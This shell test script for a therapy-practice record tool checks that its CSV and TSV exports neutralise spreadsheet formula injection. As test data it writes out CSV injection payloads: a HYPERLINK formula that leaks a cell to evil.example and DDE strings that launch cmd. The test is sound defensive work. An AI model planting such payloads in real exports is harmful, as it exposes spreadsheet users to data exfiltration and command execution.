#!/bin/sh
# t75-spreadsheet.sh: no CSV or TSV output of ipt is a formula to a
# spreadsheet.  A cell beginning with =, +, -, @, a tab or a carriage
# return is written with a single quote before it (a plain number such
# as -3 is left as it is): one rule, csv_safe_cell(), for the lists of
# every record file, ls, remind and export.  The records keep the text as
# it was entered.
. "$(dirname "$0")/lib.sh"

HL='=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE="+cmd|' /C calc'!A0"
AT='@SUM(1+1)*cmd|'"' /C calc'"'!A0'
MINUS='-2+3+cmd|x'

# t_safe NAME FILE: no cell of a CSV or TSV file begins with a formula
# character (a cell: the text at the start of a line or after a comma
# or tab, a leading quote of a CSV field taken off).
t_safe() {
	if grep -n -e '^["]\{0,1\}[=+@]' -e '[,	]["]\{0,1\}[=+@]' \
	    -e '^["]\{0,1\}-[^0-9]' -e '[,	]["]\{0,1\}-[^0-9]' \
	    -e '^["]\{0,1\}-[0-9.]*[^0-9.,	"]' \
	    -e '[,	]["]\{0,1\}-[0-9.]*[^0-9.,	"]' "$2" \
	    > "$T_TMP/.out" 2>&1; then
		t_report 1 "$1"
	else
		t_report 0 "$1"
	fi
}

mkdir practice && : > practice/ipt.ini && cd practice || exit 1
t 'init' ipt init clients/ana --name 'Ana M.' --therapist 'Dr R'
cd clients/ana || exit 1
t 'a session with a formula note' ipt session add --mood 3 --note "$HL"
t 'a session with a DDE note' ipt session add --mood 4 --note "$DDE"
t 'a goal with @' ipt goal add "$AT"
t 'a goal with -' ipt goal add -- "$MINUS"
t 'a relapse action with =' ipt relapse add --kind action "$HL"
t 'a person with + fields' ipt inventory add --relationship "$DDE" \
    --contact "$AT" --closeness 3 Sam
t 'an event with -' ipt event add --date 2026-11-01 -- "$MINUS"
t 'the records keep the text as entered' grep -q -F "$DDE" sessions.csv

for c in session goal relapse inventory event; do
	for f in csv tsv; do
		ipt $c list --format $f > out 2>&1
		t "$c list --format $f" test -s out
		t_safe "$c list --format $f: formulas neutralised" out
	done
done
ipt session list --format csv > out
t_grep 'session list --format csv: the = note quoted' \
    "^1,.*,\"'=HYPERLINK(\"\"http" out
t_grep 'session list --format csv: the + note quoted' \
    "^2,.*,'+cmd|' /C calc'!A0\$" out
ipt goal list --format tsv > out
t_grep 'goal list --format tsv: @ quoted' "	'@SUM(1+1)" out
t_grep 'goal list --format tsv: - quoted' "	'-2+3+cmd|x" out
ipt session list --format json > out
t 'JSON is left as it is' jq -e --arg n "$HL" '.[0].note == $n' out
ipt session list > out
t_grep 'the table is left as it is' '=HYPERLINK' out
ipt session list --format csv > out
t_grep 'a negative number stays a number' ',3,,' out

# A client whose name and therapist begin with a formula character.
cd ../.. || exit 1
t 'init with a - name' ipt init clients/bo --name '-Bo+1' --therapist '@Dr'
for f in csv tsv; do
	ipt ls . --format $f > out 2>&1
	t_safe "ls --format $f: formulas neutralised" out
done
ipt remind . --format tsv > out 2>&1
t_safe 'remind --format tsv: formulas neutralised' out
ipt export --format csv . > out 2>&1
t_safe 'export --format csv: formulas neutralised' out
finish
